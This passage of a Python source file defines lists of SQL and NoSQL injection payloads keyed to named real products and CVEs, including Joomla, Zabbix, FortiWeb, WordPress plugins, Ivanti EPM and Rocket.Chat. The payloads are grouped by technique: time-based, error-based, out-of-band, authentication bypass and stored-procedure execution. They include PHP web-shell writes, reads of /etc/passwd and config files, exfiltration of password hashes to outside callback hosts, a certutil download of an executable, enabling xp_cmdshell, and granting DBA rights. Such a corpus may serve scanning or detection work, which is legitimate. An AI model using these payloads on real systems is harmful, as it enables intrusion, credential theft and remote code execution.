    ("joomla-fields", "(CASE WHEN (1=1) THEN SLEEP(5) ELSE 1 END)"),
    ("thinkphp3-where", "1 and (select 1 from (select sleep(5))x)"),
    ("zabbix-jsrpc", "(select 1 from (select sleep(5))a)"),
    ("cacti-graph-view", "x' AND SLEEP(5) AND 'a'='a"),
    ("nagiosxi-banner", "1 AND SLEEP(5)"),
    ("rconfig-commands", "command AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)"),
    ("gogs-search", "') AND (SELECT 1 FROM (SELECT(SLEEP(5)))a) AND ('%'='"),
    ("fortiweb-fabric", "x'/**/or/**/sleep(5)--/**/-"),
    ("dvwa-blind", "1' AND SLEEP(5)#"),
    ("dvwa-blind", "1' AND BENCHMARK(5000000,MD5(0x41))#"),
    ("vb5-infraction", "1 AND (SELECT 1 FROM (SELECT(BENCHMARK(20000000,SHA1(1))))a)"),
    ("magento2-synchronize", "))) OR (SELECT*FROM (SELECT SLEEP((5)))a)=1 -- -"),
    ("juice-search", "')) AND 1=like('ABCDEFG',upper(hex(randomblob(500000000/2))))--"),
    ("spring-data-sort", "name,(select 1 from pg_sleep(5))"),
    ("django-orderby", "(SELECT 1 FROM pg_sleep(5))"),
    ("rails-order", "id desc, (select case when (1=1) then pg_sleep(5) else null end)"),
    ("grafana-ds-query", "SELECT pg_sleep(10)"),
    ("yonyou-grp-u8", "WAITFOR DELAY '0:0:5'"),
    ("weaver-getdata", "select 1 as id;WAITFOR DELAY '0:0:5'"),
    ("ivanti-epm", "';WAITFOR DELAY '0:0:5'--"),
    ("weaver-workflowcenter", "1 and 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)"),
    ("zabbix-latest", "1) AND 7721=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5)-- -"),
    ("openemr-validate", "x' AND (SELECT 9263 FROM (SELECT(SLEEP(5-(IF(1=1,0,5)))))a)-- -"),
]

# error-based: the value shown in the DBMS error (EXTRACTVALUE, UPDATEXML, FLOOR(RAND), EXP, CAST, CONVERT)
ERROR_BASED: list[Entry] = [
    # Joomla 3.7 com_fields (CVE-2017-8917)
    ("joomla-fields", "updatexml(0x23,concat(1,user()),1)"),
    ("joomla-fields", "extractvalue(0x0a,concat(0x0a,(select concat(username,0x3a,password) from #__users limit 1)))"),
    # Joomla com_contenthistory list[select]
    ("joomla-contenthistory", "(select 1 from (select count(*),concat((select (select concat(password)) from "
                              "icalc_users limit 0,1),floor(rand(0)*2))x from information_schema.tables group by x)a)"),
    # Zabbix jsrpc profileIdx2 (CVE-2016-10134)
    ("zabbix-jsrpc", "updatexml(0,concat(0xa,user()),0)"),
    ("zabbix-jsrpc", "(select 1 from (select count(*),concat((select (select (select concat(0x7e,(select concat("
                     "name,0x3a,passwd) from users limit 0,1),0x7e))) from users limit 0,1),floor(rand(0)*2))x from "
                     "information_schema.tables group by x)a)"),
    # ThinkPHP 5.0 ids[...] key and 5.1 insert username[1]
    ("thinkphp5-ids", "ids[0,updatexml(0,concat(0xa,user()),0)]=1", "raw-query"),
    ("thinkphp5-insert", "updatexml(1,concat(0x7,user(),0x7e),1)"),
    ("thinkphp3-where", "1 and updatexml(1,concat(0x7e,(select password from think_user limit 1),0x7e),1)"),
    # WordPress WP_Query tax_query (CVE-2022-21661, through Elementor Custom Skin's ecsload)
    ("wp-ecs-wpquery", "111) and extractvalue(rand(),concat(0x5e,user(),0x5e))#"),
    ("wp-ecs-wpquery", "111) and updatexml(1,concat(0x7e,(select user_pass from wp_users limit 1)),1)#"),
    # Drupal 7 name key (Drupageddon error variant)
    ("drupal7-login", "name[0 and extractvalue(1, concat(0x5c, version()))%23]=&name[0]=a", "raw-form"),
    # Magento 2 synchronize, vBulletin 5, Nagios XI, Cacti, Pandora, rConfig, LayerSlider, Loginizer, OpenEMR
    ("magento2-synchronize", "))) AND EXTRACTVALUE(1,CONCAT(0x5c,(SELECT username FROM admin_user LIMIT 1)))-- -"),
    ("vb5-infraction", "1 AND EXP(~(SELECT * FROM (SELECT USER())a))"),
    ("nagiosxi-banner", "1 AND GTID_SUBSET(CONCAT(0x7e,(SELECT username FROM xi_users LIMIT 1)),1)"),
    ("cacti-graph-view", "x' and extractvalue(1,concat(0x7e,(select password from user_auth limit 1)))-- -"),
    ("pandora-chart", "' and updatexml(1,concat(0x3a,(select password from tusuario limit 1)),1)-- -"),
    ("rconfig-commands", "command and (select 1 from(select count(*),concat(version(),floor(rand(0)*2))x from "
                         "information_schema.plugins group by x)a)"),
    ("wp-layerslider", "1) and extractvalue(1,concat(0x0a,database()))-- -"),
    ("wp-loginizer", "admin' and polygon((select * from(select * from(select user())a)b))-- -"),
    ("openemr-validate", "x' AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x7e,version())) USING utf8)))-- -"),
    # PostgreSQL: CAST errors (Django, Rails, Spring, dotCMS)
    ("django-trunc", "year', (SELECT CAST(version() AS int)))--"),
    ("rails-order", "(SELECT CAST(current_user AS int))"),
    ("spring-data-sort", "(select cast(chr(126)||(select passwd from pg_shadow limit 1)||chr(126) as numeric))"),
    ("dotcms-contenttype", "1::int,CAST((SELECT userid FROM user_ LIMIT 1) AS INTEGER)"),
    # SQL Server: CONVERT errors (GRP-U8, e-cology, Ivanti)
    ("yonyou-grp-u8", "select convert(int,@@version)"),
    ("weaver-getdata", "select CONVERT(INT,(SELECT TOP 1 password FROM HrmResourceManager)) as id"),
    ("ivanti-epm", "1' AND 1=CONVERT(INT,(SELECT DB_NAME()))--"),
    # Oracle: CTXSYS / XMLType errors (e-cology Oracle)
    ("weaver-workflowcenter", "1)))and 1=CTXSYS.DRITHSX.SN(1,(select user from dual))and(((1"),
    ("weaver-workflowcenter", "1)))and 1=UTL_INADDR.GET_HOST_NAME((SELECT banner FROM v$version WHERE rownum=1))"
                              "and(((1"),
]

# out-of-band: reading and writing files, DNS and HTTP exfiltration (LOAD_FILE, INTO OUTFILE, xp_dirtree,
# UTL_HTTP, dblink, COPY TO PROGRAM, H2 RUNSCRIPT)
OUT_OF_BAND: list[Entry] = [
    # FortiWeb fabric device status (CVE-2025-25257): the Bearer token, spaces as comments, a file written
    ("fortiweb-fabric", "';SELECT/**/0x696d706f7274206f73/**/INTO/**/OUTFILE/**/'../../lib/python3.10/site-packages/"
                        "x.pth'--/**/-"),
    ("fortiweb-fabric", "'/**/UNION/**/SELECT/**/LOAD_FILE('/etc/passwd')--/**/-"),
    # phpMyAdmin SQL console: the classic web shell
    ("phpmyadmin-import", "SELECT \"<?php system($_GET['cmd']); ?>\" INTO OUTFILE '/var/www/html/shell.php'"),
    ("phpmyadmin-import", "SELECT LOAD_FILE('/etc/passwd')"),
    ("phpmyadmin-import", "SET GLOBAL general_log='ON'; SET GLOBAL general_log_file='/var/www/html/log.php'; "
                          "SELECT '<?php eval($_POST[1]);?>';"),
    # WordPress, Joomla, vBulletin, Cacti: file reads and writes through the injection point
    ("wp-perfect-survey", "-1 union select 1,2,3,load_file('/var/www/html/wp-config.php'),5,6,7,8,9,10,11"),
    ("wp-photo-gallery", ')"union select 1,2,3,4,5,load_file(0x2f6574632f706173737764)#'),
    ("joomla-component", "-1 union select 1,'<?php passthru($_GET[c]);?>',3,4,5,6 into outfile '/tmp/j.php'--"),
    ("vb-forumrunner", "-1) union select 1,2,3,4,5,6,7,8,9,'<?php @eval($_POST[x]);?>' into dumpfile "
                       "'/var/www/html/cache.php'-- -"),
    ("cacti-graph-view", "') union select 1,2,load_file('/etc/cacti/db.php')-- -"),
    ("dvwa-sqli", "' union select 1,load_file(concat('\\\\\\\\',(select password from users limit 1),"
                  "'.k9x.oast.pro\\\\a'))#"),
    ("thinkphp3-where", "1 and load_file(concat(0x5c5c5c5c,(select user()),0x2e62757270636f6c6c61626f7261746f722e"
                        "6e65745c5c61))"),
    # SQL Server: xp_dirtree, xp_fileexist, OPENROWSET (GRP-U8, e-cology, Ivanti)
    ("yonyou-grp-u8", "exec master..xp_dirtree '\\\\ns1.oast.site\\a'"),
    ("yonyou-grp-u8", "declare @h varchar(1024);set @h=(select top 1 cPassword from UA_User);exec('master..xp_"
                      "fileexist ''\\\\'+@h+'.b.oast.site\\c''')"),
    ("weaver-getdata", "select 1 as id;exec master.dbo.xp_subdirs '\\\\e-cology.oast.fun\\s'"),
    ("ivanti-epm", "';SELECT * FROM OPENROWSET('SQLOLEDB','server=203.0.113.9;uid=sa;pwd=x','select 1')--"),
    # Oracle: UTL_HTTP, UTL_INADDR, DBMS_LDAP, HTTPURITYPE, XXE in EXTRACTVALUE (e-cology Oracle, Zabbix on Oracle)
    ("weaver-workflowcenter", "1)))and 1=UTL_HTTP.REQUEST('http://203.0.113.9/'||(select user from dual))and(((1"),
    ("weaver-workflowcenter", "1)))and (select DBMS_LDAP.INIT((select banner from v$version where rownum=1)||"
                              "'.oast.me',80) from dual) is not null and(((1"),
    ("zabbix-latest", "1) and (select HTTPURITYPE('http://oast.me/'||(select passwd from users where rownum=1))"
                      ".getclob() from dual) is not null-- -"),
    ("zabbix-jsrpc", "(select extractvalue(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM "
                     "\"http://oast.me/z\"> %x;]>'),'/l') from dual)"),
    # PostgreSQL: COPY TO PROGRAM, dblink, lo_import, pg_read_file (Grafana, Hasura, Django)
    ("grafana-ds-query", "COPY (SELECT '') TO PROGRAM 'nslookup $(whoami).oast.online'"),
    ("grafana-ds-query", "SELECT pg_read_file('/etc/passwd', 0, 200000)"),
    ("hasura-run-sql", "CREATE EXTENSION IF NOT EXISTS dblink; SELECT dblink_connect('host=203.0.113.9 user=a "
                       "password=b dbname=c');"),
    ("hasura-run-sql", "SELECT lo_import('/etc/passwd');"),
    ("django-orderby", "(SELECT dblink_connect('host='||(SELECT current_user)||'.oast.live user=a dbname=b'))"),
    # H2 (Metabase): RUNSCRIPT FROM a remote SQL file
    ("metabase-validate", "INIT=RUNSCRIPT FROM 'http://203.0.113.9:8000/poc.sql'//\\;"),
    # SQLite (Juice Shop): ATTACH a new database file
    ("juice-search", "'));ATTACH DATABASE '/var/www/html/x.php' AS x;CREATE TABLE x.y (d text);INSERT INTO x.y "
                     "VALUES ('<?php system($_GET[0]); ?>');--"),
    ("rails-order", "(SELECT pg_ls_dir('/'))"),
]

# information-schema/catalog probing: INFORMATION_SCHEMA, mysql.user, pg_catalog, sysobjects, ALL_TABLES,
# sqlite_master
CATALOG: list[Entry] = [
    ("joomla-contenthistory", "(select table_name from information_schema.tables where table_schema=database() "
                              "limit 1)"),
    ("joomla-component", "-1 union select 1,group_concat(table_name),3,4,5,6 from information_schema.tables where "
                         "table_schema=database()--"),
    ("dvwa-sqli", "' union select table_name, column_name from information_schema.columns where "
                  "table_schema=database()#"),
    ("dvwa-sqli", "' union select user, authentication_string from mysql.user#"),
    ("wp-perfect-survey", "-1 union select 1,2,3,schema_name,5,6,7,8,9,10,11 from information_schema.schemata"),
    ("wp-photo-gallery", ')"union select 1,2,3,4,5,group_concat(column_name) from information_schema.columns where '
                         "table_name=0x77705f7573657273#"),
    ("vb-forumrunner", "-1) union select 1,2,3,group_concat(table_name),5,6,7,8,9,10 from "
                       "information_schema.tables where table_name like 0x25757365722525-- -"),
    ("cmsms-news", "-1) union select 1,2,3,table_name,5,6,7,8 from information_schema.tables limit 1-- -"),
    ("gogs-search", "') union select 1,2,3,4,table_name,6,7,8,9,10 from information_schema.tables--"),
    ("zabbix-latest", "-1) union select table_name,column_name from information_schema.columns where "
                      "table_name='users'-- -"),
    ("nagiosxi-banner", "-1 union select 1,table_name,3,4,5 from information_schema.tables where "
                        "table_schema='nagiosxi'-- -"),
    ("rconfig-commands", "command union select table_name,null from information_schema.tables#"),
    ("openemr-validate", "x' union select 1,table_name,3,4 from sys.schema_auto_increment_columns-- -"),
    ("cacti-graph-view", "') union select 1,database_name,table_name from mysql.innodb_table_stats-- -"),
    ("wp-automatic", "SELECT option_value FROM wp_options WHERE option_name IN (SELECT TABLE_NAME FROM "
                     "information_schema.TABLES)"),
    ("juice-search", "')) union select sql,2,3,4,5,6,7,8,9 from sqlite_master--"),
    ("juice-search", "')) union select name,tbl_name,3,4,5,6,7,8,9 from sqlite_schema where type='table'--"),
    ("grafana-ds-query", "SELECT usename, passwd FROM pg_shadow"),
    ("grafana-ds-query", "SELECT tablename FROM pg_catalog.pg_tables WHERE schemaname='public'"),
    ("hasura-run-sql", "SELECT column_name FROM information_schema.columns WHERE table_name='users';"),
    ("spring-data-sort", "(select string_agg(relname,',') from pg_class)"),
    ("rails-order", "(SELECT datname FROM pg_database LIMIT 1)"),
    ("yonyou-grp-u8", "select name from master..sysdatabases"),
    ("weaver-getdata", "select name as id from sysobjects where xtype='U'"),
    ("ivanti-epm", "' UNION SELECT name FROM sys.tables--"),
    ("weaver-workflowcenter", "1)))union select NULL,table_name from all_tables where owner='ECOLOGY' order by "
                              "(((1"),
    ("zabbix-jsrpc", "(select column_name from user_tab_columns where table_name='USERS' and rownum=1)"),
    ("metabase-validate", "SELECT * FROM INFORMATION_SCHEMA.USERS\\;--=x"),
]

# mysql-comment-obfuscation: /*!...*/ version comments and /**/ for spaces (the WAF-bypass versions of exploits)
MYSQL_COMMENT: list[Entry] = [
    ("gogs-search", "')/**/union/**/select/**/1,2,name,passwd,5,6,7,8,9,10/**/from/**/user--"),
    ("gogs-repo-search", "')/**/UnIoN/**/SeLeCt/**/1,2,3,4,5,6,7,8/**/--"),
    ("fortiweb-fabric", "AAAAAA'/**/or/**/'1'='1"),
    ("fortiweb-fabric", "x'/**/union/**/select/**/@@version--/**/-"),
    ("wp-perfect-survey", "1/*!50000union*//*!50000select*/1,2,3,user_login,user_pass,6,7,8,9,10,11/**/from/**/"
                          "wp_users"),
    ("wp-pmpro", "a'/*!or*/1=1-- -"),
    ("wp-layerslider", "1)/*!12345and*/(select/**/1/**/from/**/(select(sleep(5)))a)-- -"),
    ("joomla-component", "-1/*!union*/ /*!all*/ /*!select*/1,concat(username,0x3a,password),3,4,5,6/**/from/**/"
                         "jos_users--"),
    ("joomla-fields", "updatexml/**/(0x23,concat(1,/*!user*/()),1)"),
    ("vb-forumrunner", "-1)/*!00000union*//*!00000select*/1,2,3,4,5,6,7,8,9,10-- -"),
    ("dvwa-sqli", "1'/**/oR/**/1/**/#"),
    ("dvwa-sqli", "1'/*!50400union*/(/*!50400select*/user,password/**/from/**/users)#"),
    ("dvwa-blind", "1'/**/and/**/sleep/**/(5)#"),
    ("thinkphp3-where", "1/*!and*/updatexml(1,concat(0x7e,user()),1)"),
    ("zabbix-latest", "1)/**/union/**/select/**/alias,passwd/**/from/**/users#"),
    ("cacti-graph-view", "')/*!union*/select/*!1,username,password*/from/**/user_auth#"),
    ("cmsms-news", "a,b,1,5))/**/and/**/(select/**/sleep(1)/**/from/**/cms_siteprefs)/**/--/**/"),
    ("nagiosxi-banner", "1/**/and/**/1=(select/**/1/**/from/**/xi_users/**/limit/**/1)"),
    ("rconfig-commands", "command/**/UNION/**/ALL/**/SELECT/**/username,password/**/FROM/**/users#"),
    ("openemr-validate", "x'/*!32302and*/1=1-- -"),
    ("pandora-chart", "'/**/union/**/select/**/'a',1,'id_usuario|s:5:\"admin\";'/**/as/**/data/**/from/**/"
                      "tsessions_php/**/where/**/'1'='1"),
    ("wp-statistics", "1/**/AND/**/(SELECT/**/1/**/FROM/**/(SELECT(SLEEP(5)))a)"),
    ("magento2-synchronize", ")))/**/OR/**/(SELECT/**/1/**/UNION/**/SELECT/**/2/**/FROM/**/DUAL/**/WHERE/**/1=1)"
                             "/**/--/**/-"),
    ("wp-ultimate-member", "user_login/*!*/,(select/**/1/**/from/**/wp_users)"),
    ("wp-mec", "2))/*!50000and*/sleep(5)#"),
    ("vb5-infraction", "1/*!UNION*//*!SELECT*/26,25,24,23,22,21,20,19,20,17,16,15,14,13,12,11,10,9,8,7,6,5,4,3,2,1"),
    ("laravel-admin", "id`/*!50000desc*/,(/*!select*/1)#"),
    ("ps-blockwishlist", "p.name,/*!50000(select*/sleep(5))"),
]

# function-based-probing: SUBSTRING, ASCII, ORD, MID, CHAR, CONCAT, LENGTH, IF (the bit-by-bit oracle)
FUNCTION_PROBING: list[Entry] = [
    ("wp-form-maker", ",(case when (select ascii(substring(user(),1,1)))=114 then (select sleep(5) from wp_users "
                      "limit 1) else 2 end) asc;"),
    ("wp-pmpro", "a' and ascii(substring((select user_pass from wp_users limit 1),1,1))>64-- -"),
    ("wp-layerslider", "1) and ord(mid((select user_login from wp_users limit 1),1,1))=97-- -"),
    ("wp-statistics", "1 AND IF(ASCII(SUBSTRING(DATABASE(),1,1))>100,SLEEP(5),0)"),
    ("wp-mec", "2)) AND length(database())=9-- -"),
    ("joomla-fields", "if(substring(version(),1,1)=5,1,(select 1 union select 2))"),
    ("dvwa-blind", "1' and substring(@@version,1,1)='5'#"),
    ("dvwa-blind", "1' and ascii(substr((select password from users limit 0,1),1,1))=53#"),
    ("dvwa-blind", "1' and left(user(),4)='root'#"),
    ("nagiosxi-banner", "1 and ascii(mid((select api_key from xi_users limit 1),1,1))>48"),
    ("zabbix-jsrpc", "if(ascii(substr((select passwd from users limit 1),1,1))>50,0,updatexml(0,0x7e,0))"),
    ("cacti-graph-view", "x' and ascii(substring((select password from user_auth limit 1),1,1))=36-- -"),
    ("cmsms-news", "a,b,1,5)) and if(ord(substr((select password from cms_users limit 1),1,1))>48,sleep(3),0)-- -"),
    ("vb5-infraction", "1 AND CHAR_LENGTH((SELECT password FROM user WHERE userid=1))=32"),
    ("gogs-search", "') and substr((select passwd from user limit 1),1,1)='a' and ('%'='"),
    ("juice-search", "')) and substr((select password from Users limit 1),1,1)='0'--"),
    ("juice-search", "')) and unicode(substr(sqlite_version(),1,1))=51--"),
    ("openemr-validate", "x' and concat(char(97),char(100))=0x6164-- -"),
    ("rconfig-commands", "command and ascii(lower(substring((select username from users limit 1),1,1)))=97"),
    ("pandora-chart", "' or ord(mid(version(),1,1))=56-- -"),
    ("spring-data-sort", "(case when ascii(substr(current_user,1,1))=112 then name else email end)"),
    ("django-orderby", "(case when substring(version(),1,10)='PostgreSQL' then id else 1/0 end)"),
    ("rails-order", "(CASE WHEN (SELECT length(current_database()))>5 THEN id ELSE name END)"),
    ("dotcms-contenttype", "(case when (ascii(substr((select password_ from user_ limit 1),1,1))>64) then 1 else "
                           "1/0 end)"),
    ("yonyou-grp-u8", "if ascii(substring(db_name(),1,1))>64 waitfor delay '0:0:3'"),
    ("ivanti-epm", "' AND UNICODE(SUBSTRING(SYSTEM_USER,1,1))>64--"),
    ("weaver-workflowcenter", "1)))and ascii(substr((select user from dual),1,1))>64 and(((1"),
    ("zabbix-latest", "1) and instr((select banner from v$version where rownum=1),chr(79))>0-- -"),
]

# sql-authentication-bypass: login forms and session lookups made true
AUTH_BYPASS: list[Entry] = [
    # Pandora FMS chart_generator (CVE-2021-32099): a forged PHP session through UNION
    ("pandora-chart", "a' UNION SELECT 'a',1,'id_usuario|s:5:\"admin\";' as data FROM tsessions_php WHERE '1'='1"),
    ("pandora-chart", "-1' UNION SELECT 'x',1,'id_usuario|s:5:\"admin\";' FROM dual WHERE 'a'='a"),
    # OWASP Juice Shop login (SQLite)
    ("juice-login", "' or 1=1--"),
    ("juice-login", "admin@juice-sh.op' --"),
    ("juice-login", "' or 1=1 limit 1,1--"),
    ("juice-login", "bender@juice-sh.op'--"),
    ("juice-login", "' union select * from Users where email='admin@juice-sh.op'--"),
    # Loginizer log (CVE-2020-27615)
    ("wp-loginizer", "admin' or '1'='1"),
    ("wp-loginizer", "' or 1=1 limit 1-- -"),
    ("wp-loginizer", "admin') or ('a'='a"),
    # DVWA login / OpenEMR validateUser / Nagios XI / Cacti style logins
    ("openemr-validate", "admin' or 1=1-- -"),
    ("openemr-validate", "' or ''='"),
    ("dvwa-sqli", "admin'or 1=1 or ''='"),
    ("dvwa-sqli", "') or ('1'='1'-- -"),
    ("nagiosxi-banner", "1 or 1=1 limit 1"),
    ("cacti-graph-view", "admin' or 'a'='a'/*"),
    # FortiWeb Bearer token (CVE-2025-25257)
    ("fortiweb-fabric", "'or'1'='1"),
    ("fortiweb-fabric", "AAAAAA'/**/or/**/1/**/limit/**/1--/**/-"),
    # Paid Memberships Pro order code
    ("wp-pmpro", "' or user_id=1-- -"),
    # WP Fastest Cache cookie (CVE-2023-6063): the user name out of the logged-in cookie
    ("wp-fastest-cache", "admin\" or \"1\"=\"1"),
    ("wp-fastest-cache", "\" or 1=1-- "),
    # Gogs, Zabbix, ZoneMinder, rConfig
    ("gogs-search", "admin' or '1'='1'--"),
    ("zabbix-latest", "1) or 1=1 or (1"),
    ("zoneminder-request", "1 or 'a'='a'"),
    ("rconfig-commands", "'or''='"),
    # SQL Server (GRP-U8, Ivanti) and PostgreSQL (Django) login lookups
    ("yonyou-grp-u8", "select * from UA_User where cUser_Id='admin' or 1=1--'"),
    ("ivanti-epm", "' or 1=1;--"),
    ("django-orderby", "id') OR 1=1--"),
]

# nosql-injection: MongoDB query operators and $where JavaScript, CouchDB duplicate keys
NOSQL: list[Entry] = [
    # Rocket.Chat getPasswordPolicy (CVE-2021-22911): a token regex walked character by character
    ("rocketchat-policy", '{"token":{"$regex":"^a"}}'),
    ("rocketchat-policy", '{"token":{"$ne":null}}'),
    ("rocketchat-policy", '{"token":{"$regex":"^[A-Za-z0-9_-]{43}$"}}'),
    # Rocket.Chat users.list query: $where JavaScript
    ("rocketchat-userslist", "{\"$where\":\"this.username==='admin' && (()=>{ throw this.services.password.bcrypt "
                             "})()\"}"),
    ("rocketchat-userslist", '{"$where":"sleep(5000) || true"}'),
    ("rocketchat-userslist", '{"services.password.bcrypt":{"$regex":"^\\\\$2b"}}'),
    # Strapi password reset (CVE-2019-18818): the code matched with $gt
    ("strapi-reset", '{"code":{"$gt":0},"password":"Pwned1234!","passwordConfirmation":"Pwned1234!"}', "json-body"),
    ("strapi-reset", '{"code":{"$ne":""},"password":"Pwned1234!","passwordConfirmation":"Pwned1234!"}', "json-body"),
    # mongo-express checkValid (CVE-2019-10758): the document evaluated as JavaScript
    ("mongo-express-checkvalid", "this.constructor.constructor(\"return process\")().mainModule.require("
                                 "\"child_process\").execSync(\"id\")"),
    ("mongo-express-checkvalid", "{\"$where\":\"function(){return true}\"}"),
    # CouchDB _users (CVE-2017-12635): the second "roles" key wins in Erlang, the first in JavaScript
    ("couchdb-users", '{"type":"user","name":"oops","roles":["_admin"],"roles":[],"password":"pwned"}', "json-body"),
    ("couchdb-users", '{"type":"user","name":"oops2","roles":["_admin"],"roles":["reader"],"password":"x"}',
     "json-body"),
    # Parse Server where
    ("parse-classes", '{"username":{"$regex":".*"},"password":{"$exists":true}}'),
    ("parse-classes", '{"$or":[{"username":"admin"},{"objectId":{"$ne":null}}]}'),
    ("parse-classes", '{"email":{"$in":["admin@example.com","root@example.com"]},"emailVerified":{"$ne":false}}'),
    # Juice Shop: reviews update for every row, order tracking with $where JavaScript
    ("juice-reviews", '{"id":{"$ne":-1},"message":"NoSQL Injection!"}', "json-body"),
    ("juice-reviews", '{"id":{"$gt":""},"message":"x"}', "json-body"),
    ("juice-track", "' || sleep(2000) || '"),
    ("juice-track", "'; return true; var x='"),
    ("juice-track", "' || this.orderId.match(/.*/) || '"),
    # more operators in the same products' JSON, then in bracketed parameter names (qs-style parsing)
    ("parse-classes", '{"sessionToken":{"$nin":[""]}}'),
    ("rocketchat-userslist", '{"emails.address":{"$regex":"@example\\\\.com$"},"roles":{"$in":["admin"]}}'),
    ("rocketchat-policy", '{"token":{"$where":"return true"}}'),
    ("mongo-express-checkvalid", "db.getCollectionNames()"),
    ("juice-reviews", '{"$where":"this.author==\'admin@juice-sh.op\'","message":"x"}', "json-body"),
    ("strapi-reset", "code[$gt]=0&password=Pwned1234!&passwordConfirmation=Pwned1234!", "raw-form"),
    ("parse-classes", "username[$ne]=x&password[$ne]=x", "raw-query"),
    ("rocketchat-userslist", "user[$regex]=^adm&pass[$exists]=true", "raw-query"),
]

# hex/char encoding: strings written as 0x..., CHAR(), CHR(), UNHEX() so no quotes are needed
HEX_CHAR: list[Entry] = [
    ("cmsms-news", "a,b,1,5)) and (select sleep(1) from cms_siteprefs where sitepref_value like 0x25 and "
                   "sitepref_name like 0x736974656d61736b)-- "),
    ("wp-photo-gallery", ')"union select 1,2,3,4,5,(select user_pass from wp_users where user_login=0x61646d696e)#'),
    ("wp-perfect-survey", "-1 union select 1,2,3,0x3c3f7068702073797374656d28245f4745545b635d293b3f3e,5,6,7,8,9,10,11"
                          " into outfile 0x2f7661722f7777772f68746d6c2f782e706870"),
    ("wp-layerslider", "1) and (select 1 from wp_users where user_login=char(97,100,109,105,110))-- -"),
    ("joomla-fields", "updatexml(0x23,concat(0x7e,(select unhex(hex(password)) from #__users limit 1)),1)"),
    ("joomla-component", "-1 union select 1,concat(username,char(58),password),3,4,5,6 from jos_users where "
                         "usertype=0x53757065722041646d696e6973747261746f72--"),
    ("vb-forumrunner", "-1) union select 1,2,3,concat(0x3c62723e,username,0x3a,password),5,6,7,8,9,10 from user-- -"),
    ("zabbix-jsrpc", "updatexml(0,concat(0xa,(select passwd from users where alias=0x41646d696e)),0)"),
    ("cacti-graph-view", "x' union select 1,2,password from user_auth where username=0x61646d696e-- -"),
    ("nagiosxi-banner", "1 and (select 1 from xi_users where username=char(110,97,103,105,111,115,97,100,109,105,"
                        "110))"),
    ("dvwa-sqli", "' union select 1,user from users where first_name=0x61646d696e#"),
    ("dvwa-sqli", "' union select 1,unhex('3c7363726970743e')#"),
    ("openemr-validate", "x' union select 1,2,3,convert(0x61646d696e using latin1)-- -"),
    ("thinkphp3-where", "1 and (select 1 from think_user where username=0x61646d696e)=1"),
    ("rconfig-commands", "command union select 0x726f6f74,password from users#"),
    ("magento-shoplift", "INSERT INTO admin_user (username,password,is_active) VALUES (0x666f726d65,"
                         "0x6131623263336434653566366137623863396430,1);"),
    ("pandora-chart", "' union select 0x61,1,0x69645f7573756172696f7c733a353a2261646d696e223b-- -"),
    ("gogs-search", "') or name=char(97,100,109,105,110)--"),
    ("juice-search", "')) union select char(60,115,99,114,105,112,116,62),2,3,4,5,6,7,8,9--"),
    ("juice-search", "')) or email=X'61646d696e406a756963652d73682e6f70'--"),
    ("spring-data-sort", "(select chr(97)||chr(100)||chr(109)||chr(105)||chr(110))"),
    ("django-trunc", "year', (SELECT convert_from(decode('73656c656374','hex'),'UTF8')))--"),
    ("rails-order", "(SELECT CHR(112)||CHR(103)||CHR(95)||CHR(115)||CHR(108)||CHR(101)||CHR(101)||CHR(112))"),
    ("yonyou-grp-u8", "declare @s varchar(8000);set @s=0x78705f636d647368656c6c202777686f616d6927;exec(@s)"),
    ("weaver-getdata", "select CHAR(115)+CHAR(97) as id"),
    ("ivanti-epm", "';DECLARE @x NVARCHAR(400)=CAST(0x770068006f0061006d006900 AS NVARCHAR);EXEC xp_cmdshell @x--"),
    ("weaver-workflowcenter", "1)))union select NULL,CHR(83)||CHR(89)||CHR(83) from dual order by (((1"),
    ("zabbix-latest", "1) union select utl_raw.cast_to_varchar2(hextoraw('61646d696e')),null from dual-- -"),
]

# stored-procedure/xp_cmdshell: command execution and configuration through the DBMS's procedures
STORED_PROC: list[Entry] = [
    # Yonyou GRP-U8 Proxy (SQL Server): xp_cmdshell in the R9PACKET Data field
    ("yonyou-grp-u8", "exec xp_cmdshell 'whoami'"),
    ("yonyou-grp-u8", "exec sp_configure 'show advanced options',1;reconfigure;exec sp_configure 'xp_cmdshell',1;"
                      "reconfigure"),
    ("yonyou-grp-u8", "exec master..xp_cmdshell 'certutil -urlcache -split -f http://203.0.113.9/a.exe "
                      "C:\\Windows\\Temp\\a.exe'"),
    ("yonyou-grp-u8", "declare @o int;exec sp_oacreate 'wscript.shell',@o out;exec sp_oamethod @o,'run',null,"
                      "'cmd /c whoami > c:\\inetpub\\wwwroot\\1.txt'"),
    # Ivanti EPM (SQL Server)
    ("ivanti-epm", "';EXEC sp_configure 'show advanced options',1;RECONFIGURE;EXEC sp_configure 'xp_cmdshell',1;"
                   "RECONFIGURE;EXEC xp_cmdshell 'nslookup x.oast.site'--"),
    ("ivanti-epm", "';EXEC master.dbo.xp_regread 'HKEY_LOCAL_MACHINE','SYSTEM\\CurrentControlSet\\Services\\"
                   "MSSQLSERVER','ObjectName'--"),
    ("ivanti-epm", "';EXEC sp_addsrvrolemember 'ldms','sysadmin'--"),
    # Weaver e-cology (SQL Server edition)
    ("weaver-getdata", "select 1 as id;exec master..xp_cmdshell 'ping -n 1 203.0.113.9'"),
    ("weaver-getdata", "select 1 as id;exec sp_makewebtask 'c:\\ecology\\x.jsp','select 1'"),
    ("weaver-getdata", "select 1 as id;EXEC sp_executesql N'SELECT name FROM sys.sql_logins'"),
    # Oracle edition: DBMS_JAVA, DBMS_SCHEDULER, DBMS_XMLQUERY
    ("weaver-workflowcenter", "1)))and (select dbms_java.runjava('oracle/aurora/util/Wrapper /bin/id') from dual)"
                              " is not null and(((1"),
    ("weaver-workflowcenter", "1)))and (select dbms_xmlquery.newcontext('declare pragma autonomous_transaction; "
                              "begin execute immediate ''grant dba to public''; commit; end;') from dual) is not null "
                              "and(((1"),
    ("zabbix-jsrpc", "(select SYS.DBMS_EXPORT_EXTENSION.GET_DOMAIN_INDEX_TABLES('FOO','BAR','DBMS_OUTPUT\".PUT(:P1);"
                     "EXECUTE IMMEDIATE ''DECLARE PRAGMA AUTONOMOUS_TRANSACTION;BEGIN EXECUTE IMMEDIATE ''''GRANT "
                     "DBA TO ZABBIX'''';END;'';END;--','SYS',0,'1',0) from dual)"),
    # PostgreSQL: COPY FROM PROGRAM, CREATE FUNCTION ... LANGUAGE (Hasura, Grafana)
